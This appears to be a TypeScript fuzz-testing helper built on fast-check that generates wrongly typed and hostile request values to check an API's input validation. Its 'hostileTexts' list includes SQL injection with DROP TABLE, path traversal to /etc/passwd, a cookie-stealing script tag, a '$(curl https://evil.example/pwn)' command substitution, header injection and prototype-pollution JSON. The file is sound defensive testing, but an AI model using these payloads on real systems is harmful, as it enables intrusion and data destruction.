/** What nobody should send: values of wrong types and sizes, and texts that try something. */
import fc from 'fast-check';

/** JSON text as it is: for numbers and keys that no object of ours can hold. */
export class RawJson {
  readonly text: string;
  constructor(text: string) {
    this.text = text;
  }
}

/** JSON with raw parts; a key `__proto__` stays a key like any other. */
export const jsonOf = (value: unknown): string => {
  if (value instanceof RawJson) return value.text;
  if (Array.isArray(value))
    return `[${value.map((part) => (part === undefined ? 'null' : jsonOf(part))).join()}]`;
  if (typeof value !== 'object' || value === null) return JSON.stringify(value) ?? 'null';
  const members = Object.entries(value).filter(([, part]) => part !== undefined);
  return `{${members.map(([key, part]) => `${JSON.stringify(key)}:${jsonOf(part)}`).join()}}`;
};

export const nested = (depth: number, open = '[', close = ']'): RawJson =>
  new RawJson(open.repeat(depth) + (open === '[' ? '' : '1') + close.repeat(depth));

/** Texts that mean something to somebody: a shell, a query, a template, a key of ours, a screen. */
export const hostileTexts: readonly string[] = [
  '',
  '   ',
  '{{cuf_123456}}',
  `$${'{{cuf_123456}}'}`,
  "1' OR '1'='1'; DROP TABLE orders; --",
  '1001#ORDER#M#somebody',
  'P#demo#M#1/@MEMBER',
  '../../../../etc/passwd%00',
  '<script>alert(document.cookie)</script>',
  '$(curl https://evil.example/pwn)',
  '%s%n%x {0} {points} #{7*7}',
  'line one\r\nX-Injected: yes\r\n\r\nline two',
  '\u0000\u0001\u001b[31mcontrol',
  '\ud800 half a pair \udfff',
  '\u202eمرحبا بالعالم\u202c',
  '👨‍👩‍👧‍👦🇹🇷é한국어',
  'ﷺ'.repeat(200),
  'longer than anything '.repeat(700),
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'true',
  'null',
  'Infinity',
  '-1',
  '1e999',
  '9007199254740993',
  '2026-13-45T99:99:99Z',
  '+275760-09-13T00:00:00.001Z',
];

/** Values of the wrong type, in JSON. */
export const wrongValues: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  new RawJson('-0'),
  new RawJson('1e400'),
  new RawJson('9007199254740993'),
  new RawJson('12345678901234567'),
  new RawJson('0.1000000000000000055511151231257827'),
  [],
  [null],
  ['1001'],
  [['1001']],
  {},
  { id: '1001', toString: 'x', valueOf: null, length: -1 },
  new RawJson('{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}'),
  nested(2000),
  nested(1000, '{"a":', '}'),
  ...hostileTexts,
];

const randomText = fc.oneof(
  { arbitrary: fc.constantFrom(...hostileTexts), weight: 3 },
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc.string({ unit: 'grapheme', maxLength: 300 }),
  fc.emailAddress(),
);

export const badValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: fc.constantFrom(...wrongValues), weight: 4 },
  { arbitrary: randomText, weight: 3 },
  fc.double(),
  fc.integer(),
  fc.bigInt().map((digits) => new RawJson(String(digits))),
  fc.jsonValue({ maxDepth: 3 }),
);

export type Path = readonly (string | number)[];

/** Where a body has values: every leaf, and every list and object in it. */
export const pathsIn = (value: unknown, path: Path = []): Path[] => {
  const here = path.length === 0 ? [] : [path];
  if (typeof value !== 'object' || value === null || value instanceof RawJson) return here;
  const inner = Array.isArray(value)
    ? value.flatMap((part, index) => pathsIn(part, [...path, index]))
    : Object.entries(value).flatMap(([key, part]) => pathsIn(part, [...path, key]));
  return [...here, ...inner];
};

/** A copy with another value at the path; undefined leaves it out. */
export const withValue = (body: unknown, [at, ...rest]: Path, value: unknown): unknown => {
  if (at === undefined) return value;
  const inner = (part: unknown) => withValue(part, rest, value);
  if (Array.isArray(body)) return body.map((part, index) => (index === at ? inner(part) : part));
  return Object.fromEntries(
    Object.entries(body as object).map(([key, part]) => [key, key === at ? inner(part) : part]),
  );
};

/** The texts in a value that are long enough to be recognized elsewhere. */
export const markersIn = (value: unknown): string[] => {
  if (typeof value === 'string') return value.trim().length >= 8 ? [value.trim()] : [];
  if (typeof value !== 'object' || value === null || value instanceof RawJson) return [];
  return Object.values(value).flatMap(markersIn);
};
